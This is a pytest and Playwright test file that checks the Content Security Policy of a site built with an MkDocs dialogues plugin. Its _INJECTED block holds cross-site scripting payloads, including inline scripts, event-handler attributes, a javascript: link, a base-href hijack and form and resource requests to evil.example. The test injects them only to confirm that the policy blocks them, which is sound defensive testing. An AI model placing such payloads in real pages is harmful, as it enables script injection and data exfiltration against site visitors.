"""The second line: under the policy everything works, and what slipped through the first line does not run."""

from __future__ import annotations

import contextlib
import functools
import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from mkdocs.commands.build import build
from mkdocs.config import load_config
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import served

_WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
});
"""
_TALK = """---
title: {title}
themes: [tea]
---
**Ada:** Is the {word} `ready`?

```mermaid
graph LR
  Kettle --> Cup
```

**Bo:** $x^2$ and

| a | b |
|--:|---|
| 1 | 2 |

```python
print(1)
```
"""
_MAIN = """{% extends "base.html" %}
{% block scripts %}{{ super() }}<script>window.skin = "{{ page.title if page else '' }}".length;</script>{% endblock %}
"""


@pytest.fixture(scope="module", params=[True, False], ids=["instant", "plain"])
def site(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site with much of what Material has, a skin and a page of its owner's that bring scripts."""
    folder = tmp_path_factory.mktemp("policy")
    (folder / "content/dialogues/deep").mkdir(parents=True)
    (folder / "skin").mkdir()
    (folder / "skin/main.html").write_text(_MAIN)
    (folder / "content/index.md").write_text("# Home\n\n[a](dialogues/a.md)\n\n<script>window.mine = 1;</script>\n")
    (folder / "content/dialogues/a.md").write_text(_TALK.format(title="First", word="kettle"))
    (folder / "content/dialogues/deep/b.md").write_text(_TALK.format(title="Second", word="samovar"))
    features = (
        "content.code.copy content.tooltips navigation.tabs navigation.top search.suggest search.highlight toc.follow"
    )
    palette = [{"scheme": s, "toggle": {"icon": "material/weather-sunny", "name": s}} for s in ("default", "slate")]
    settings = {
        "site_name": "Test",
        "site_url": "http://127.0.0.1/",
        "docs_dir": "content",
        "theme": {
            "name": "material",
            "font": False,
            "custom_dir": "skin",
            "palette": palette,
            "features": [*features.split(), *(["navigation.instant"] if request.param else [])],
        },
        "markdown_extensions": ["pymdownx.tabbed", "tables"],
        "plugins": ["search", {"dialogues": {"embed": False}}],
    }
    (folder / "mkdocs.yml").write_text(yaml.safe_dump(settings))
    config = load_config(str(folder / "mkdocs.yml"), strict=True)
    config.plugins.on_startup(command="build", dirty=False)
    build(config)
    return folder / "site"


class _WithHeaders(http.server.SimpleHTTPRequestHandler):
    """Serves a site with its ``_headers``, as Netlify and Cloudflare Pages do."""

    def end_headers(self) -> None:
        for line in (Path(self.directory) / "_headers").read_text().splitlines()[1:]:
            name, _, value = line.strip().partition(": ")
            self.send_header(name, value)
        super().end_headers()

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
        pass


@contextlib.contextmanager
def _served(folder: Path) -> Iterator[str]:
    handler = functools.partial(_WithHeaders, directory=str(folder))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


@pytest.fixture
def opened(browser: Browser, site: Path) -> Iterator[tuple[Page, str]]:
    """A page that keeps what was blocked on it, and the site's address."""
    with _served(site) as base:
        context = browser.new_context(viewport={"width": 1280, "height": 900})
        context.add_init_script(_WATCH)
        yield context.new_page(), base
        context.close()


def _violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.violations")
    return found


def test_everything_works(opened: tuple[Page, str]) -> None:
    page, base = opened
    errors: list[str] = []
    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
    page.goto(base)
    assert page.evaluate("[window.mine, window.skin]") == [1, 4]
    page.locator("article a", has_text="a").first.click()
    page.wait_for_url("**/dialogues/a/")
    _look_at_a_dialogue(page)
    page.locator(".md-search__input").fill("samovar")
    page.locator(".md-search-result__item a").first.click()
    page.wait_for_url("**/dialogues/deep/b/**")
    _look_at_a_dialogue(page)
    for address in ("themes/", "themes/tea/", "404.html"):
        page.goto(base + address)
        assert _violations(page) == []
    assert errors == []


def _look_at_a_dialogue(page: Page) -> None:
    """Use what a page has that a script does, and look whether any of it was blocked."""
    expect(page.locator(".dialogue-diagram img")).to_be_visible()
    assert page.locator(".dialogue-diagram img").evaluate(
        "(picture) => picture.decode().then(() => picture.naturalWidth)"
    )
    scheme = page.locator("body").get_attribute("data-md-color-scheme")
    page.locator("[data-md-component=palette] label:not([hidden])").first.click()
    expect(page.locator("body")).not_to_have_attribute("data-md-color-scheme", scheme or "")
    page.locator("section.turn pre").last.hover()
    expect(page.locator("section.turn pre button, section.turn .md-code__button").last).to_be_visible()
    assert page.evaluate("window.skin") == len(page.locator("h1.dialogue-title").inner_text())
    assert _violations(page) == []


# What a fault in the first line could let through, and the event in which each would run.
_INJECTED = """<script>window.ran = 1</script>
<script src="https://evil.example/x.js"></script>
<img src="missing.png" onerror="window.ran = 2">
<iframe srcdoc="<script>parent.ran = 3</script>"></iframe>
<a id="lure" href="javascript:window.ran = 4">x</a>
<svg onload="window.ran = 5"><style>@import "https://evil.example/x.css";</style></svg>
<object data="data:text/html,<script>parent.ran = 6</script>"></object>
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<p style="background: url(https://evil.example/x.png)">x</p>
<form action="https://evil.example/"><button id="send">x</button></form>
"""


def test_what_slips_through_does_not_run_and_asks_nobody(browser: Browser, site: Path) -> None:
    page_of_a = (site / "dialogues/a/index.html").read_text()
    place = '<div class="turn-body">'
    assert place in page_of_a
    injected = site / "dialogues/injected/index.html"
    injected.parent.mkdir(exist_ok=True)
    injected.write_text(page_of_a.replace(place, place + _INJECTED, 1))
    asked: list[str] = []
    context = browser.new_context()
    context.add_init_script(_WATCH)
    page = context.new_page()
    page.on("requestfailed", lambda one: asked.append(one.url) if "csp" not in (one.failure or "").lower() else None)
    with served(site) as base:  # without the header: the policy in the page has to do
        page.goto(f"{base}dialogues/injected/", wait_until="load")
        expect(page.locator(".dialogue-diagram img").first).to_be_visible()
        page.locator("#lure").click()
        page.locator("#send").evaluate("(button) => button.click()")
        page.wait_for_timeout(300)
        ran, blocked = page.evaluate("window.ran"), " ".join(_violations(page))
        context.close()
    assert ran is None
    assert asked == []
    for directive in (
        "script-src-elem",
        "script-src-attr",
        "style-src-elem",
        "img-src",
        "object-src",
        "base-uri",
        "form-action",
    ):
        assert directive in blocked, blocked


def test_no_other_site_shows_the_pages_in_a_frame(opened: tuple[Page, str], site: Path, tmp_path: Path) -> None:
    page, base = opened
    with served(site) as without_header, served(tmp_path) as other:
        (tmp_path / "index.html").write_text(f'<iframe src="{base}"></iframe><iframe src="{without_header}"></iframe>')
        page.goto(other, wait_until="load")
        refused, shown = page.frames[1:3]
        assert refused.url.startswith("chrome-error:")
        assert shown.url == without_header


def test_scripts_run_when_a_page_is_opened_from_a_disk(browser: Browser, site: Path) -> None:
    context = browser.new_context()
    context.add_init_script(_WATCH)
    page = context.new_page()
    page.goto((site / "dialogues/a/index.html").as_uri(), wait_until="load")
    blocked = [one for one in _violations(page) if one.startswith(("script", "style", "img"))]
    skin, ours = page.evaluate("[window.skin, typeof window.mkdocsDialogues]")
    context.close()
    assert (blocked, skin, ours) == ([], 5, "object")
